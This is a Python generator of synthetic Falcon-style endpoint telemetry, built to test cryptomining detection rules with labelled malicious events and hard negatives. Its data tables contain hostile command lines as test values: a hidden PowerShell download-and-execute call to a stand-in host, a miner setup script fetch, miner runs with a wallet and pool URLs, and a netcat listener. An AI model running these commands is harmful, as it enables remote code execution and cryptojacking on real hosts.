"""Deterministic generator of labelled CrowdStrike Falcon FDR-style NDJSON corpora."""

from __future__ import annotations

import gzip
import hashlib
import json
from bisect import bisect
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field
from json.encoder import encode_basestring
from pathlib import Path
from random import Random
from typing import BinaryIO, Literal, cast

import zstandard

__all__ = [
    "RULE_MINER_PROCESS",
    "RULE_POOL_CONNECTION",
    "RULE_POOL_DNS",
    "CorpusInfo",
    "LabelledLine",
    "generate_falcon",
    "write_corpus",
]

RULE_MINER_PROCESS = "MinerProcessExecution"
RULE_POOL_CONNECTION = "MiningPoolNetworkConnection"
RULE_POOL_DNS = "MiningPoolDNSLookup"

# Indicator lists of rules/t1204.003-malicious-image/*.yml, used here only to choose values that
# do (or, for hard negatives, do not) contain them. Tests re-check every label independently.
MINER_IMAGE_STRINGS = (
    "xmrig",
    "xmrig-notls",
    "minerd",
    "cpuminer",
    "cryptonight",
    "nbminer",
    "t-rex",
    "lolminer",
    "ethminer",
    "cgminer",
    "bfgminer",
    "claymore",
    "phoenixminer",
    "teamtntbot",
)
MINER_CMDLINE_STRINGS = (
    "stratum+tcp://",
    "stratum+ssl://",
    "--donate-level",
    "-o pool.",
    "xmrpool",
    "supportxmr",
    "minexmr",
    "moneroocean",
    "hashvault",
    "nanopool",
)
POOL_PORTS = (3333, 3334, 4444, 4445, 14444, 45560, 5555, 8333, 7777, 9999, 13333, 19999)
POOL_DOMAIN_STRINGS = (
    "minexmr.com",
    "supportxmr.com",
    "nanopool.org",
    "f2pool.com",
    "antpool.com",
    "pool.minergate.com",
    "xmrpool.eu",
    "hashvault.pro",
    "moneroocean.stream",
    "xmr.pool",
)

_BASE_MS = 1_794_873_600_000  # 2026-11-17T00:00:00Z
_CIDS = ("3f1c9a0e5b7d4c2a9e8f1b6d0c4a7e21", "b84e2d71c06f4a9d8e3b5c1f7a2d9e60")
_MAX_INT64 = 9_223_372_036_854_775_807

Obj = dict[str, object]
Rules = tuple[str, ...]
_Line = tuple[str, Rules]

_ENCODER = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False, check_circular=False)
_encode = _ENCODER.encode


@dataclass(frozen=True, slots=True)
class LabelledLine:
    """One NDJSON line (no trailing newline) and the sorted names of the rules that alert on it."""

    data: bytes
    rules: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class CorpusInfo:
    """What write_corpus wrote: counts, sizes and the sha256 of the file on disk."""

    path: Path
    events: int
    malicious: int
    bytes_decompressed: int
    sha256: str
    bytes_compressed: int
    by_rule: tuple[tuple[str, int], ...]
    labels_path: Path | None


# --------------------------------------------------------------------------------------------
# Value catalogues (benign)
# --------------------------------------------------------------------------------------------

# (path below the volume root, command line with {U} user / {N} number, parents, browser)
_WIN_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    (
        r"Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        ("cmd.exe", "powershell.exe"),
        False,
    ),
    (
        r"Windows\System32\cmd.exe",
        r'"C:\Windows\system32\cmd.exe" /c "C:\Users\{U}\scripts\backup.bat"',
        ("explorer.exe",),
        False,
    ),
    (
        r"Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile '
        r"-ExecutionPolicy Bypass -File C:\ProgramData\Intune\detect_{N}.ps1",
        ("svchost.exe", "AgentExecutor.exe"),
        False,
    ),
    (
        r"Program Files\Google\Chrome\Application\chrome.exe",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer '
        r"--lang=en-US --renderer-client-id={N} --launch-time-ticks=88312{N}",
        ("chrome.exe",),
        True,
    ),
    (
        r"Program Files\Google\Chrome\Application\chrome.exe",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" ',
        ("explorer.exe",),
        True,
    ),
    (
        r"Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility '
        r"--utility-sub-type=network.mojom.NetworkService --service-sandbox-type=none",
        ("msedge.exe",),
        True,
    ),
    (
        r"Program Files\Mozilla Firefox\firefox.exe",
        r'"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID {N} '
        r"-isForBrowser -prefsLen 31337 tab",
        ("firefox.exe",),
        True,
    ),
    (
        r"Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r'"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" ',
        ("explorer.exe",),
        False,
    ),
    (
        r"Users\{U}\AppData\Local\Microsoft\Teams\current\Teams.exe",
        r'"C:\Users\{U}\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated',
        ("explorer.exe", "Update.exe"),
        False,
    ),
    (
        r"Windows\System32\taskhostw.exe",
        r"taskhostw.exe KEYROAMING",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\rundll32.exe",
        r"C:\Windows\system32\rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess"
        r" Flags:{N} WinX:0 WinY:0 IEFrame:0000000000000000",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\PING.EXE",
        r"ping -n 3 10.20.{N}.1",
        ("cmd.exe",),
        False,
    ),
    (
        r"Program Files\Git\cmd\git.exe",
        r'"C:\Program Files\Git\cmd\git.exe" fetch --all --prune',
        ("Code.exe", "cmd.exe"),
        False,
    ),
    (
        r"Windows\System32\msiexec.exe",
        r"C:\Windows\system32\msiexec.exe /V",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\SearchProtocolHost.exe",
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{N}_ '
        r"Global\UsGthrCtrlFltPipeMssGthrPipe{N} 1 -2147483646",
        ("SearchIndexer.exe",),
        False,
    ),
)

# (image, command line, parents, in a container)
_LIN_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    (
        "/usr/bin/bash",
        "/bin/bash -c /usr/lib/update-notifier/package-data-downloader",
        ("cron",),
        False,
    ),
    ("/usr/bin/bash", "-bash", ("sshd",), False),
    (
        "/usr/bin/curl",
        "curl -fsSL https://api.github.com/repos/{U}/infra/releases/latest",
        ("bash",),
        False,
    ),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only",
        ("sh",),
        False,
    ),
    ("/usr/sbin/sshd", "sshd: {U} [priv]", ("sshd",), False),
    ("/usr/bin/systemctl", "systemctl is-active --quiet nginx.service", ("bash",), False),
    ("/usr/bin/apt-get", "apt-get -qq update", ("sudo",), False),
    ("/usr/bin/git", "git -C /srv/app pull --ff-only origin main", ("bash",), False),
    ("/usr/bin/sudo", "sudo -n /usr/bin/journalctl -u kubelet --since -5m", ("bash",), False),
    ("/usr/bin/grep", "grep -E ^(ERROR|WARN) /var/log/app/app-{N}.log", ("bash",), False),
    ("/usr/bin/containerd", "/usr/bin/containerd", ("systemd",), False),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {C} "
        "-address /run/containerd/containerd.sock",
        ("containerd",),
        False,
    ),
    (
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io "
        "--log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{C}/log.json init",
        ("containerd-shim-runc-v2",),
        False,
    ),
    (
        "/usr/local/bin/python3.12",
        "python3 -m gunicorn app.wsgi:application --bind 0.0.0.0:8000 --workers 4",
        ("containerd-shim-runc-v2", "runc"),
        True,
    ),
    ("/usr/sbin/nginx", "nginx: worker process", ("containerd-shim-runc-v2", "runc"), True),
    (
        "/usr/local/bin/node",
        "node /app/dist/server.js --port 3000",
        ("containerd-shim-runc-v2", "runc", "conmon"),
        True,
    ),
    (
        "/bin/sh",
        "/bin/sh -c wget -q -O /tmp/health http://127.0.0.1:8080/healthz",
        ("containerd-shim-runc-v2", "runc"),
        True,
    ),
    (
        "/usr/bin/java",
        "java -Xms512m -Xmx2g -jar /opt/app/service.jar --spring.profiles.active=prod",
        ("containerd-shim-runc-v2", "conmon"),
        True,
    ),
    ("/usr/local/bin/redis-server", "redis-server *:6379", ("containerd-shim-runc-v2",), True),
)

_MAC_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    ("/usr/libexec/xpcproxy", "xpcproxy com.apple.mdworker.shared.{N}", ("launchd",), False),
    ("/usr/bin/ssh", "ssh -T git@github.com", ("git",), False),
    ("/usr/bin/security", "security find-identity -v -p codesigning", ("zsh",), False),
    (
        "/Applications/Slack.app/Contents/MacOS/Slack",
        "/Applications/Slack.app/Contents/MacOS/Slack",
        ("launchd",),
        False,
    ),
    ("/usr/local/bin/brew", "/usr/local/bin/brew update --auto-update", ("zsh",), False),
)

_DOMAINS = (
    "www.google.com",
    "login.microsoftonline.com",
    "settings-win.data.microsoft.com",
    "ocsp.digicert.com",
    "api.github.com",
    "registry-1.docker.io",
    "production.cloudflare.docker.com",
    "archive.ubuntu.com",
    "security.ubuntu.com",
    "s3.us-east-1.amazonaws.com",
    "ctldl.windowsupdate.com",
    "time.windows.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "cdn.jsdelivr.net",
    "pypi.org",
    "files.pythonhosted.org",
    "dc01.corp.example.com",
    "_ldap._tcp.dc._msdcs.corp.example.com",
    "wpad.corp.example.com",
    "slack.com",
    "edge.microsoft.com",
    "update.googleapis.com",
    "e{N}.dscx.akamaiedge.net",
    "ip-10-20-{N}-7.ec2.internal",
)
_WIN_PORTS = (
    "443",
    "443",
    "443",
    "443",
    "80",
    "80",
    "53",
    "445",
    "135",
    "389",
    "88",
    "5985",
    "8080",
)
_LIN_PORTS = ("443", "443", "443", "80", "53", "22", "123", "5432", "6379", "8443", "2379")
_PUBLIC_FIRST_OCTETS = (
    3, 13, 18, 20, 23, 34, 35, 40, 44, 45, 51, 52, 54, 64, 66, 69, 91, 104, 107, 137, 140, 142,
    151, 157, 162, 185, 195, 199, 204, 216,
)  # fmt: skip
_V6_PREFIXES = ("2606:4700:", "2a00:1450:4001:", "2620:1ec:", "2001:4860:4802:", "2a01:4f8:c17:")
_USERS = (
    "jsmith", "a.nguyen", "mgarcia", "Administrator", "svc_backup", "kwilliams", "José.Ramírez",
    "Łukasz.Nowak", "priya.sharma", "ubuntu", "ec2-user", "root", "deploy", "o'brien",
)  # fmt: skip
_WIN_CONFIG_BUILDS = ("1007.3.0018607.1", "1007.3.0018806.1", "1007.3.0017702.1")
_LIN_CONFIG_BUILDS = ("1007.8.0018403.1", "1007.8.0018604.1")
_MAC_CONFIG_BUILDS = ("1007.4.0018505.1",)

# --------------------------------------------------------------------------------------------
# Value catalogues (malicious and hard negatives)
# --------------------------------------------------------------------------------------------

_WALLET = (
    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5U"
    "zqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
)
_LIN_MINER_IMAGES = (
    "/tmp/.X11-unix/.x/xmrig",
    "/var/tmp/xmrig-6.21.0/xmrig",
    "/usr/local/bin/xmrig-notls",
    "/tmp/XMRig",
    "/opt/cpuminer/cpuminer-multi",
    "/dev/shm/.m/minerd",
    "/tmp/.ICE-unix/teamtntbot",
    "/opt/lolMiner_v1.88/lolMiner",
    "/usr/bin/cgminer",
    "/usr/local/bin/bfgminer",
    "/opt/NBMiner_Linux/nbminer",
    "/opt/t-rex/t-rex",
    "/root/.local/ethminer",
)
_WIN_MINER_IMAGES = (
    r"Users\{U}\AppData\Local\Temp\xmrig.exe",
    r"Users\{U}\AppData\Roaming\XMRig\XMRig.exe",
    r"ProgramData\PhoenixMiner\PhoenixMiner.exe",
    r"Users\Public\claymore\EthDcrMiner64.exe",
    r"Miners\T-Rex\t-rex.exe",
    r"Users\{U}\Downloads\cpuminer-opt\cpuminer-avx2.exe",
    r"Windows\Temp\cryptonight.exe",
    r"Users\{U}\Downloads\ethminer-0.18.0\bin\ethminer.exe",
)
_MINER_ARGS_WITH_POOL = (
    "-o stratum+tcp://pool.supportxmr.com:3333 -u " + _WALLET + " -p x --donate-level 1",
    "--url=stratum+ssl://gulf.moneroocean.stream:20128 --user " + _WALLET + " --tls",
    "-a rx/0 -o pool.hashvault.pro:443 -u " + _WALLET + " -k",
    "-o xmrpool.eu:3333 -u " + _WALLET + " -p worker1 --cpu-max-threads-hint=75",
    "--algo ethash --server eth-eu1.nanopool.org:9999 --user 0x52bc44d5378309ee2abf1539bf71de1b",
    "-o STRATUM+TCP://xmr.pool.minergate.com:45560 -u miner@example.net -p x",
    "-o Stratum+Tcp://pool.minexmr.com:4444 -u " + _WALLET + " --Donate-Level=0",
)
_MINER_ARGS_BENIGN_LOOKING = (
    "--config=config.json",
    "-c /tmp/.x/config.json --background",
    "--help",
    "--cpu-priority 2 --threads 4",
)
# (image, command line) that alert only through the command line (renamed binaries etc.)
_LIN_CMD_ONLY = (
    ("/tmp/.ICE-unix/kworkerds", "kworkerds -B -o stratum+tcp://45.9.148.21:3333 -u " + _WALLET),
    ("/usr/bin/curl", "curl -s http://pool.minexmr.com:3333"),
    ("/usr/bin/bash", "bash -c 'echo supportxmr.com >> /etc/hosts.deny.bak'"),
    (
        "/usr/bin/wget",
        "wget -q -O- https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh",
    ),
    ("/usr/bin/gcc", "gcc -O2 -c -o pool.o src/pool.c"),
    (
        "/usr/local/bin/python3.12",
        "python3 /app/sync.py --endpoint stratum+ssl://hashvault.pro:443",
    ),
)
_WIN_CMD_ONLY = (
    (r"Windows\Temp\svchost32.exe", r"C:\Windows\Temp\svchost32.exe -o xmrpool.eu:3333 -u {W} -k"),
    (
        r"Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString("
        r"'http://supportxmr.example-cdn.net/a.ps1')",
    ),
    (
        r"Windows\System32\cmd.exe",
        r'cmd.exe /c "C:\ProgramData\svc\run.exe --url stratum+tcp://nanopool.org:14444"',
    ),
)
_POOL_DOMAINS = (
    "pool.minexmr.com",
    "pool.supportxmr.com",
    "xmr-eu1.nanopool.org",
    "eth-us-east1.nanopool.org",
    "stratum.f2pool.com",
    "ss.antpool.com",
    "pool.minergate.com",
    "xmr.pool.minergate.com",
    "xmrpool.eu",
    "pool.hashvault.pro",
    "gulf.moneroocean.stream",
    "POOL.SUPPORTXMR.COM",
    "Gulf.MoneroOcean.Stream",
    "pool.minexmr.com.",
)
_NEAR_MISS_DOMAINS = (
    "minexmr.co",
    "nanopool.net",
    "supportxmr.co",
    "xmrpool.com",
    "minergate.com",
    "f2pool.co",
    "antpool.net",
    "hashvault.io",
    "moneroocean.net",
    "xmr-pool.net",
    "monero-ocean.stream",
    "pool.minexmr.co",
)
# Addresses the rule's cidr filter excludes (v4, v6).
_PRIVATE_V4 = (
    "10.{a}.{b}.{c}",
    "10.{a}.{b}.{c}",
    "10.0.0.1",
    "172.{p}.{b}.{c}",
    "172.{p}.{b}.{c}",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.{b}.{c}",
    "192.168.{b}.{c}",
    "127.0.0.1",
    "127.{a}.{b}.{c}",
)
_PRIVATE_V6 = (
    "::1",
    "0:0:0:0:0:0:0:1",
    "fd12::1",
    "fd00:10:20::{h}",
    "fc00::{h}",
    "fe80::{h}:{h}:{h}:{h}",
    "febf::{h}",
    "FE80::1",
)
# Public but near the filtered ranges: the rule alerts on these.
_BOUNDARY_PUBLIC_V4 = (
    "172.32.0.10",
    "172.15.255.250",
    "192.169.1.1",
    "11.0.0.1",
    "9.255.255.254",
    "128.0.0.1",
    "100.64.3.7",
)
_BOUNDARY_PUBLIC_V6 = ("fec0::1", "fbff:ffff::1", "2001:db8::3333", "::ffff:1.2.3.4")
_NON_POOL_PORTS = ("443", "80", "3389", "33333", "3332", "8443", "44444", "4443", "13334", "8080")
# Command lines of benign processes with port-like numbers or miner words outside the lists.
_PORTLIKE_CMDS_LIN = (
    ("/usr/bin/nc", "nc -lvnp 3333"),
    ("/usr/bin/python3.11", "python3 -m http.server 4444 --bind 127.0.0.1"),
    ("/usr/local/bin/redis-server", "redis-server --port 7777 --protected-mode yes"),
    ("/usr/bin/pkill", "pkill -9 xmrig"),
    ("/usr/bin/rm", "rm -rf /tmp/xmrig-6.21.0 /tmp/config.json"),
    ("/usr/bin/docker", "docker pull xmrig/xmrig:latest"),
    ("/usr/bin/grep", "grep -c stratum /var/log/chrony/tracking.log"),
    ("/usr/sbin/zfs", "zfs create -o pool,rw tank/minerd-archive"),
    ("/usr/bin/ssh", "ssh -o PoolTimeout=5 -p 3334 backup@10.0.8.15"),
)
_PORTLIKE_CMDS_WIN = (
    (
        r"Windows\System32\netsh.exe",
        r"netsh advfirewall firewall add rule name=app dir=in localport=3333 action=allow",
    ),
    (r"Windows\System32\cmd.exe", r'cmd.exe /c "echo stratum pools blocked by policy 4444"'),
    (r"Windows\System32\taskkill.exe", r"taskkill /F /IM xmrig.exe /T"),
    (r"Windows\System32\mstsc.exe", r"mstsc.exe /v:203.0.113.9:3389"),
)


# --------------------------------------------------------------------------------------------
# The generator
# --------------------------------------------------------------------------------------------


@dataclass(slots=True)
class _Proc:
    tpid: str
    image: str
    base: str
    browser: bool


@dataclass(slots=True)
class _Host:
    aid: str
    cid: str
    aip: str
    platform: str
    computer: str
    users: tuple[str, ...]
    volume: int
    local4: str
    config_build: str
    config_hash: str
    procs: list[_Proc] = field(default_factory=list)
    containers: tuple[str, ...] = ()


def _basename(image: str) -> str:
    return image.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]


def _check_roundtrip(raw: str, obj: Obj) -> None:
    if json.loads(raw) != obj:  # an internal invariant: a trap must not change the value
        raise RuntimeError(f"corpus trap changed the decoded value: {raw[:200]}")


class _Falcon:
    """Draws events one at a time; malicious and hard-negative scenarios are queued lines."""

    def __init__(self, seed: int, malicious_rate: float) -> None:
        if not 0.0 <= malicious_rate <= 0.5:
            raise ValueError(f"malicious_rate must be within [0, 0.5], got {malicious_rate!r}")
        self.rng = Random(seed)
        self.random = self.rng.random
        self.bits = self.rng.getrandbits
        self.clock = _BASE_MS + self.bits(24)
        self.hosts = [self._new_host() for _ in range(160)]
        self.hashes: dict[str, tuple[str, str]] = {}
        # Scenario trigger probabilities per drawn event: a malicious scenario yields ~1.7
        # labelled lines on average, a hard-negative one ~1.3 unlabelled "tricky" lines.
        self.p_malicious = malicious_rate / 1.7
        self.p_hard = self.p_malicious + malicious_rate / 1.3
        self.pending: list[_Line] = []
        self.last_proc = _Proc("", "", "", False)
        benign: list[tuple[float, Callable[[], _Line]]] = [
            (0.115, self._benign_process),
            (0.02, self._benign_synthetic),
            (0.10, self._end_of_process),
            (0.20, self._benign_network4),
            (0.03, self._benign_network6),
            (0.19, self._benign_dns),
            (0.05, self._heartbeat),
            (0.02, self._user_logon),
            (0.04, self._listen4),
            (0.03, self._accept4),
            (0.005, self._process_blocked),
            (0.13, self._image_hash),
            (0.07, self._new_executable_written),
        ]
        self.benign_fns = [fn for _, fn in benign]
        acc = 0.0
        self.benign_cum: list[float] = []
        for weight, _ in benign:
            acc += weight
            self.benign_cum.append(acc)
        self.benign_total = acc
        self.malicious_scenarios: list[Callable[[], list[_Line]]] = [
            self._mal_container_xmrig,
            self._mal_curl_pool,
            self._mal_windows_miner,
            self._mal_cmd_only,
            self._mal_image_only,
            self._mal_dns_only,
            self._mal_network_only,
            self._mal_network6,
        ]
        self.hard_scenarios: list[Callable[[], list[_Line]]] = [
            self._hard_private_pool_port,
            self._hard_private_pool_port,
            self._hard_private_pool_port6,
            self._hard_public_other_port,
            self._hard_portlike_cmdline,
            self._hard_near_miss_dns,
            self._hard_strings_in_other_fields,
            self._hard_wrong_event_type,
            self._hard_runtime_wget_loopback,
        ]

    # -- small helpers -----------------------------------------------------------------------

    def pick(self, seq: Sequence[str]) -> str:
        return seq[int(self.random() * len(seq))]

    def hex(self, nbits: int) -> str:
        return f"{self.bits(nbits):0{nbits // 4}x}"

    def uuid(self) -> str:
        h = f"{self.bits(128):032x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[self.bits(2)]}{h[17:20]}-{h[20:]}"

    def public4(self) -> str:
        first = _PUBLIC_FIRST_OCTETS[int(self.random() * len(_PUBLIC_FIRST_OCTETS))]
        b = self.bits(24)
        return f"{first}.{b >> 16}.{(b >> 8) & 255}.{1 + (b & 255) % 254}"

    def public6(self) -> str:
        p = self.pick(_V6_PREFIXES)
        groups = ":".join(f"{self.bits(16):x}" for _ in range(7 - p.count(":")))
        return p + groups

    def private4(self) -> str:
        t = self.pick(_PRIVATE_V4)
        b = self.bits(24)
        return t.format(a=b >> 16, b=(b >> 8) & 255, c=1 + (b & 255) % 254, p=16 + self.bits(4))

    def private6(self) -> str:
        return self.pick(_PRIVATE_V6).replace("{h}", f"{1 + self.bits(15):x}")

    def tick(self) -> str:
        self.clock += int(self.random() * 7)
        ts = self.clock - int(self.random() * 3000 if self.random() < 0.05 else 0)
        if self.random() < 0.02:
            return str(ts // 1000)
        return str(ts)

    def ctx_time(self) -> str:
        t = self.clock - 1 - self.bits(10)
        return f"{t // 1000}.{t % 1000:03d}"

    def raw_pid(self, host: _Host) -> str:
        r = self.random()
        if r < 0.01:
            return str(_MAX_INT64 + 1 + self.bits(63))
        if host.platform == "Win":
            return str(4 * (1 + self.bits(13)))
        return str(1 + self.bits(22))

    def host(self) -> _Host:
        return self.hosts[int(self.random() * len(self.hosts))]

    def _new_host(self) -> _Host:
        r = self.random()
        platform = "Win" if r < 0.55 else ("Lin" if r < 0.9 else "Mac")
        word = {"Win": ("WKS", "LAPTOP", "SRV", "DC", "SQL"), "Lin": ("BUILD", "K8S-NODE", "WEB")}
        computer = f"{self.pick(word.get(platform, ('MBP',)))}-{self.bits(16):04X}"
        if platform == "Lin":
            computer = computer.lower()
        aip = self.public4()
        if self.random() < 0.05:
            aip = f"{aip} {self.public4()}"
        if self.random() < 0.02:
            aip = (
                f"14.{241 + self.bits(3)}.{850 + self.bits(5)}.329"  # invalid, as seen in test data
            )
        local4 = f"10.{self.bits(8)}.{self.bits(8)}.{1 + self.bits(7)}"
        if platform == "Lin" and self.random() < 0.3:
            local4 = f"{local4} 172.17.0.1"
        builds = {"Win": _WIN_CONFIG_BUILDS, "Lin": _LIN_CONFIG_BUILDS}.get(
            platform, _MAC_CONFIG_BUILDS
        )
        users = tuple(self.pick(_USERS) for _ in range(3))
        containers = tuple(self.hex(256) for _ in range(4)) if platform == "Lin" else ()
        return _Host(
            aid=self.hex(128),
            cid=self.pick(_CIDS),
            aip=aip,
            platform=platform,
            computer=computer,
            users=users,
            volume=1 + self.bits(2),
            local4=local4,
            config_build=self.pick(builds),
            config_hash=str(self.bits(32)),
            containers=containers,
        )

    def image_hashes(self, image: str) -> tuple[str, str]:
        got = self.hashes.get(image)
        if got is None:
            got = (self.hex(256), self.hex(128))
            if len(self.hashes) < 50_000:
                self.hashes[image] = got
        return got

    def head(self, host: _Host, simple: str, version: str) -> Obj:
        suffix = {"Win": "", "Lin": "Lin", "Mac": "Mac"}[host.platform]
        return {
            "event_simpleName": simple,
            "name": f"{simple}{suffix}{version}",
            "aid": host.aid,
            "cid": host.cid,
            "aip": host.aip,
            "event_platform": host.platform,
            "id": self.uuid(),
            "timestamp": self.tick(),
        }

    def tail(self, host: _Host, obj: Obj) -> Obj:
        obj["ConfigBuild"] = host.config_build
        obj["ConfigStateHash"] = host.config_hash
        obj["Entitlements"] = "15"
        obj["EffectiveTransmissionClass"] = "2" if self.random() < 0.7 else "3"
        return obj

    def context_proc(self, host: _Host, *, no_browser: bool = False) -> _Proc:
        procs = host.procs
        if procs:
            for _ in range(4):
                p = procs[int(self.random() * len(procs))]
                if not (no_browser and p.browser):
                    return p
        # No suitable process seen on this host yet: a context id from before the corpus start.
        return _Proc(str(1_000_000_000 + self.bits(33)), "", "", False)

    def remember(self, host: _Host, proc: _Proc) -> None:
        if len(host.procs) < 48:
            host.procs.append(proc)
        else:
            host.procs[int(self.random() * 48)] = proc

    def fill(self, template: str, host: _Host) -> str:
        if "{" not in template:
            return template
        return (
            template.replace("{U}", self.pick(host.users))
            .replace("{N}", str(self.bits(12)))
            .replace("{C}", self.pick(host.containers) if host.containers else self.hex(256))
            .replace("{W}", _WALLET)
        )

    def win_image(self, host: _Host, rel: str) -> str:
        return f"\\Device\\HarddiskVolume{host.volume}\\{rel}"

    # -- process events ----------------------------------------------------------------------

    def process(
        self,
        host: _Host,
        image: str,
        cmd: str,
        parent: str,
        *,
        simple: str = "ProcessRollup2",
        container: bool = False,
        browser: bool = False,
    ) -> Obj:
        """A process event; registers the process on its host for later ContextProcessId links."""
        versions = {"Win": "V19", "Lin": "V12", "Mac": "V9"}
        obj = self.head(
            host, simple, versions[host.platform] if simple == "ProcessRollup2" else "V5"
        )
        if self.random() < 0.3:
            obj["ComputerName"] = host.computer
            obj["UserName"] = self.pick(host.users)
        tpid = str(4_000_000_000 + self.bits(36))
        obj["CommandLine"] = cmd
        obj["ImageFileName"] = image
        obj["ParentBaseFileName"] = parent
        if self.random() < 0.5:
            obj["GrandParentBaseFileName"] = "services.exe" if host.platform == "Win" else "systemd"
        ppid = host.procs[-1].tpid if host.procs else str(3_000_000_000 + self.bits(34))
        obj["TargetProcessId"] = tpid
        obj["ParentProcessId"] = ppid
        obj["SourceProcessId"] = ppid
        obj["RawProcessId"] = self.raw_pid(host)
        if host.platform == "Win":
            obj["UserSid"] = (
                f"S-1-5-21-{self.bits(30)}-{self.bits(30)}-{self.bits(30)}-{1000 + self.bits(8)}"
            )
            obj["IntegrityLevel"] = "8192" if self.random() < 0.6 else "12288"
            obj["SessionId"] = str(self.bits(2))
        else:
            uid = "0" if self.random() < 0.4 else str(1000 + self.bits(4))
            obj["UID"] = uid
            obj["GID"] = uid
        if container and host.containers:
            obj["OciContainerId"] = self.pick(host.containers)
        start = self.clock - self.bits(8)
        obj["ProcessStartTime"] = f"{start // 1000}.{start % 1000:03d}"
        obj["ProcessEndTime"] = ""
        sha, md5 = self.image_hashes(image)
        obj["SHA256HashData"] = sha
        obj["MD5HashData"] = md5
        self.last_proc = _Proc(tpid, image, _basename(image), browser)
        self.remember(host, self.last_proc)
        return self.tail(host, obj)

    def _benign_proc_obj(self, simple: str) -> Obj:
        host = self.host()
        if host.platform == "Win":
            rel, cmd, parents, browser = _WIN_PROCS[int(self.random() * len(_WIN_PROCS))]
            user = self.pick(host.users)
            image = self.win_image(host, rel.replace("{U}", user))
            cmd = self.fill(cmd, host).replace("{U}", user)
            return self.process(
                host, image, cmd, self.pick(parents), simple=simple, browser=browser
            )
        catalogue = _LIN_PROCS if host.platform == "Lin" else _MAC_PROCS
        image, cmd, parents, container = catalogue[int(self.random() * len(catalogue))]
        return self.process(
            host,
            image,
            self.fill(cmd, host),
            self.pick(parents),
            simple=simple,
            container=container,
        )

    def _benign_process(self) -> _Line:
        return _encode(self._benign_proc_obj("ProcessRollup2")), ()

    def _benign_synthetic(self) -> _Line:
        return _encode(self._benign_proc_obj("SyntheticProcessRollup2")), ()

    def _end_of_process(self) -> _Line:
        host = self.host()
        obj = self.head(host, "EndOfProcess", "V17")
        p = self.context_proc(host)
        obj["TargetProcessId"] = p.tpid
        obj["RawProcessId"] = self.raw_pid(host)
        obj["ContextTimeStamp"] = self.ctx_time()
        obj["CycleTime"] = str(self.bits(34))
        obj["MaxThreadCount"] = str(1 + self.bits(6))
        obj["ChildProcessCount"] = str(self.bits(3))
        obj["NetworkBindCount"] = str(self.bits(2))
        obj["NetworkConnectCount"] = str(self.bits(5))
        return _encode(self.tail(host, obj)), ()

    # -- network and DNS ---------------------------------------------------------------------

    def network(
        self,
        host: _Host,
        remote: str,
        port: str | int,
        *,
        v6: bool = False,
        proc: _Proc | None = None,
        direction: str | None = None,
        simple: str | None = None,
    ) -> Obj:
        if simple is None:
            simple = "NetworkConnectIP6" if v6 else "NetworkConnectIP4"
        obj = self.head(host, simple, "V12" if host.platform == "Win" else "V5")
        p = proc if proc is not None else self.context_proc(host)
        if direction is None:
            r = self.random()
            direction = "0" if r < 0.85 else ("1" if r < 0.97 else "2")
        obj["ConnectionDirection"] = direction
        obj["ConnectionFlags"] = "0"
        obj["ContextProcessId"] = p.tpid
        obj["ContextTimeStamp"] = self.ctx_time()
        obj["InContext"] = "1" if self.random() < 0.5 else "0"
        if v6:
            obj["LocalAddressIP6"] = f"fe80::{self.bits(16):x}:{self.bits(16):x}:{self.bits(16):x}"
            obj["RemoteAddressIP6"] = remote
        else:
            obj["LocalAddressIP4"] = host.local4
            obj["RemoteAddressIP4"] = remote
        local: str | int = str(49152 + self.bits(14))
        if self.random() < 0.03:
            local = int(local)
        obj["LocalPort"] = local
        obj["RemotePort"] = port
        obj["Protocol"] = "17" if port in ("53", "123") or self.random() < 0.04 else "6"
        return self.tail(host, obj)

    def _benign_network4(self) -> _Line:
        host = self.host()
